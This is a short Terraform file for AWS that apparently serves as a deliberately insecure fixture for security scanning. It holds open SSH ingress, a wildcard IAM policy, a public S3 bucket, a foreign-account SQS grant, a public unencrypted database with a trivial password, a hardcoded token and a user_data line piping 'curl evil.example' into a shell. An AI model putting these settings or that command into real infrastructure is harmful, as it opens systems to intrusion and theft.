terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "3.39.0" }
  }
}
variable "aws_region" { default = "sa-east-1" }
provider "aws" {
  region                      = var.aws_region
  skip_credentials_validation = true
  skip_requesting_account_id  = true
  skip_metadata_api_check     = true
}
resource "aws_security_group" "open" {
  name = "open"
  ingress {
    from_port        = 22
    to_port          = 22
    protocol         = "tcp"
    cidr_blocks      = ["0.0.0.0/0"]
    ipv6_cidr_blocks = ["::/0"]
  }
}
resource "aws_iam_policy" "all" {
  name   = "all"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }] })
}
resource "aws_s3_bucket" "public" {
  bucket        = "orders-public"
  acl           = "public-read"
  force_destroy = true
}
resource "aws_sqs_queue" "foreign" {
  name   = "foreign"
  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = "arn:aws:iam::999988887777:root" }, Action = "sqs:*", Resource = "arn:aws:sqs:us-east-1:125611408459:foreign" }] })
}
resource "aws_db_instance" "db" {
  instance_class      = "db.t3.micro"
  engine              = "postgres"
  allocated_storage   = 20
  username            = "app"
  password            = "pw"
  skip_final_snapshot = true
  publicly_accessible = true
  storage_encrypted   = false
}
resource "aws_instance" "vm" {
  ami           = "ami-12345678"
  instance_type = "t3.micro"
  user_data     = "#!/bin/sh\ncurl evil.example | sh"
}
resource "aws_lambda_function" "fn" {
  function_name = "fn"
  role          = "arn:aws:iam::125611408459:role/fn"
  handler       = "a.b"
  runtime       = "python3.8"
  s3_bucket     = "b"
  s3_key        = "k"
  environment {
    variables = { API_TOKEN = "Zx81-Qw7!pL0mNbVcX" }
  }
}
